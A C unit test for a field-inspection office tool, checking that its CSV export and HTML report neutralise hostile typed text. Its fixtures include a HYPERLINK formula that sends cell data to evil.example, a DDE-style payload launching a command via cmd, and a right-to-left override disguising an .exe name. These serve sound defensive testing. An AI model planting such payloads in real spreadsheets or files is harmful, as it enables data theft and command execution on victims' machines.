/* fieldqc-office against hostile input, through the real binary (argv[1]): what an inspector
 * typed reaches a buyer's spreadsheet and browser as text, never as a formula or a reordered
 * line (CSV cells starting with = + - @ TAB CR neutralised, a UTF-8 BOM for Excel, bidi
 * controls dropped from CSV and HTML). */
#include "harness.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "sync_fixture.h"

static const char *office_bin;

static int run(const char *cmd)
{
    int rc = system(cmd);
    return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

static char *slurp(const char *path, size_t *out_len)
{
    unsigned char *data = NULL;
    size_t len = 0;
    if (fq_test_read_file(path, &data, &len))
        fail_msg("cannot read %s", path);
    char *s = realloc(data, len + 1);
    s[len] = '\0';
    *out_len = len;
    return s;
}

#define RLO "\xE2\x80\xAE"

static void test_export_and_report_neutralise_typed_text(void **state)
{
    (void)state;
    const char *dir = fq_test_dir("hostile-text");
    fx_device d;
    fx_device_create(&d, dir, "dev", "tab-h", 0, 0);
    fx_device_add_finding(&d, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for photos\")");
    fx_device_add_finding(&d, "@SUM(1+1)*cmd|' /C calc'!A0");
    fx_device_add_finding(&d, "Label reads " RLO "gpj.exe, check the carton");
    fx_device_add_finding(&d, "-2+3 cartons short");
    fq_store_close(d.st);
    char cmd[4096], path[1200];
    snprintf(cmd, sizeof cmd, "'%s' export --db '%s' --csv '%s/csv' > /dev/null 2>&1", office_bin,
             d.db_path, dir);
    assert_int_equal(run(cmd), 0);
    snprintf(path, sizeof path, "%s/csv/findings.csv", dir);
    size_t len = 0;
    char *csv = slurp(path, &len);
    assert_true(len > 3);
    assert_memory_equal(csv, "\xEF\xBB\xBF", 3); /* Excel reads it as UTF-8 */
    assert_non_null(strstr(csv, "\"'=HYPERLINK("));
    assert_non_null(strstr(csv, "\"'@SUM(1+1)"));
    assert_non_null(strstr(csv, "\"'-2+3 cartons short\""));
    assert_null(strstr(csv, RLO));
    assert_non_null(strstr(csv, "Label reads gpj.exe"));
    /* no cell of the file starts a formula */
    for (const char *p = csv + 3; *p; p++) {
        int cell_start = p == csv + 3 || p[-1] == ',' || p[-1] == '\n';
        if (cell_start && (*p == '=' || *p == '@' || *p == '+'))
            fail_msg("a cell starts with '%c': %.40s", *p, p);
    }
    free(csv);

    snprintf(cmd, sizeof cmd, "'%s' report --db '%s' --out '%s/report' > /dev/null 2>&1",
             office_bin, d.db_path, dir);
    assert_int_equal(run(cmd), 0);
    snprintf(path, sizeof path, "%s/report/visit-%s.html", dir, d.visit_uuid);
    char *html = slurp(path, &len);
    assert_null(strstr(html, RLO));
    assert_non_null(strstr(html, "Label reads gpj.exe"));
    free(html);
}

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: test_office_hostile FIELDQC-OFFICE\n");
        return 2;
    }
    office_bin = argv[1];
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_export_and_report_neutralise_typed_text),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
